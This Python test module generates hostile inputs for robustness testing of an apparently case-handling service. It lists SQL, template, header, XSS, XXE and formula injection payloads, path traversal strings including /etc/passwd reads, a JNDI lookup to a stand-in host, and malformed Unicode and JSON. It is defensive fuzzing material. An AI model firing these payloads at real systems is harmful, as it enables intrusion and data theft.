"""What somebody may send who means harm, or whose program is broken: texts and JSON values."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from typing import Any

MARK = "zqhostilezq"
"""Stands in everything that is sent, so that it is found wherever it comes up. Not as the name of a
field, though: one that is a name is told to whoever misspelt it."""
_UNNAMED = f"no name {MARK}"

TEXTS: Sequence[str] = (
    # SQL
    f"'; DROP TABLE cases; -- {MARK}",
    f"{MARK}' OR '1'='1",
    f'{MARK}" UNION SELECT hash FROM api_keys --',
    f"{MARK}%'; UPDATE cases SET state='closed' WHERE '1%'='1",
    f"{MARK}\\'; SELECT pg_sleep(10); --",
    f'{MARK}" OR NEAR("a" "b", 2) NOT x* ^ col:',
    # templates
    f"{MARK} {{{{7*7}}}} {{{{ config }}}}",
    f"{{% for x in ().__class__.__mro__ %}}{MARK}{{% endfor %}}",
    f"{MARK} ${{7*7}} <%= 7*7 %> #{{7*7}} {{0.__class__}} %(name)s %s %n",
    f"{MARK} ${{jndi:ldap://192.0.2.1/a}}",
    # headers and lines
    f"{MARK}\r\nSet-Cookie: admin=1\r\n\r\n<html>",
    f"{MARK}\nBcc: everybody@example.org",
    f"{MARK}\u2028Bcc: everybody@example.org\u2029\x85\x0b\x0c\x1c",
    # markup
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror=alert(1)>{MARK}</p></body>',
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{MARK}</x>",
    f"]]>{MARK}<![CDATA[ &#0; &#x1F600; &lt;",
    f"=cmd|'/C calc'!A0 {MARK}",
    # paths
    f"../../../../etc/passwd {MARK}",
    f"..%2f..%2f%2e%2e/{MARK}%00.txt",
    f"C:\\..\\..\\{MARK}",
    f"file:///etc/{MARK}",
    # Unicode
    f"{MARK} \u202egnirts\u202c \u2066\u2069 \u200f",
    f"z\u200bq {MARK} \u200d\u200c\ufeff\u00ad\u2060",
    f"{MARK} a" + "\u0301" * 500,
    f"{MARK} \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f",
    f"{MARK} \ufdfa\u0130\u0131\u017f\u1e9e\ufb03 \U0001d400 \U0010fffd",
    f"{MARK} \ufffe \uffff \U0001ffff",
    f"{MARK} \x00 after",
    f"{MARK} \x01\x02\x08\x1b[31m\x7f\x9b",
    # long, and long to look at
    f"{MARK} " + "A" * 5_000,
    f"{MARK} " + "((((((((((" * 300,
    f"{MARK} " + "a@" * 2_000,
    f"{MARK} " + "1-" * 2_000,
    f"{MARK} " + "<" * 3_000,
    f"{MARK} " + "> " * 1_500,
    f"{MARK} " + "01632 960001 " * 200,
    f"{MARK} " + "2026-11-27T12:00:00Z " * 100,
    # values that mean something else
    f"null {MARK}",
    f"-1e999 {MARK}",
    f"true {MARK}",
)
HALVES: Sequence[str] = (f"{MARK} \ud800", f"\udfff {MARK} \udc00\ud800", f"\ud83d{MARK}")
"""Halves of characters, which JSON can write and no text can hold."""

_NUMBERS = ("1e400", "-1e400", "1e22", "1e-320", "-0.0", "0.1e1", "9" * 30, "9" * 4_200)
_NO_NUMBERS = ("NaN", "Infinity", "-Infinity", "0x7f", "1_000", "01", "+1", ".5", "9" * 5_000)
_MOMENTS = (
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "2026-02-30T00:00:00Z",
    "2026-11-27T12:00:00",
    "0001-01-01",
    "9999-12-31",
    "20261127",
    "1764244800",
    "2026-W48-5",
    "2026-11-27T12:00:00.123456789Z",
    "2026-11-27t12:00:00z",
    "2026-11-27 12:00:00+00:00[Europe/London]",
)


def text(draw: random.Random) -> str:
    """A hostile text."""
    return draw.choice(TEXTS)


def written(draw: random.Random) -> str:
    """A hostile value as JSON writes it: what no program of ours would, too."""
    return draw.choice(_WRITTEN)(draw)


def _number(draw: random.Random) -> str:
    return draw.choice(_NUMBERS)


def _no_number(draw: random.Random) -> str:
    return draw.choice(_NO_NUMBERS)


def _wrong_type(draw: random.Random) -> str:
    values: list[Any] = [None, True, False, 0, -1, 2**31, 2**63, 2**64, 1.5, "", " ", [], {}]
    values += [[MARK], {_UNNAMED: MARK}, [[[]]], {"$ne": None}, {"__proto__": {_UNNAMED: 1}}]
    return json.dumps(draw.choice(values))


def _moment(draw: random.Random) -> str:
    return json.dumps(draw.choice(_MOMENTS))


def _deep(draw: random.Random) -> str:
    depth = draw.choice((50, 200, 400, 900, 10_000))
    opening, closing = draw.choice((("[", "]"), (f'{{"{_UNNAMED}":', "}")))
    return opening * depth + "1" + closing * depth


def _wide(draw: random.Random) -> str:
    return json.dumps(dict.fromkeys((f"{MARK} {n}" for n in range(500)), MARK))


def _doubled(draw: random.Random) -> str:
    return f'{{"a": "{MARK}", "a": 1, "a": null}}'


def _half(draw: random.Random) -> str:
    return json.dumps(draw.choice(HALVES))


def _listed(draw: random.Random) -> str:
    return json.dumps([text(draw) for _ in range(draw.choice((1, 30)))])


def _text(draw: random.Random) -> str:
    return json.dumps(text(draw), ensure_ascii=draw.random() < 0.5)


_WRITTEN: Sequence[Callable[[random.Random], str]] = (
    *(_text, _text, _text, _text, _text, _half, _number, _no_number, _wrong_type, _wrong_type),
    *(_moment, _moment, _deep, _wide, _doubled, _listed),
)
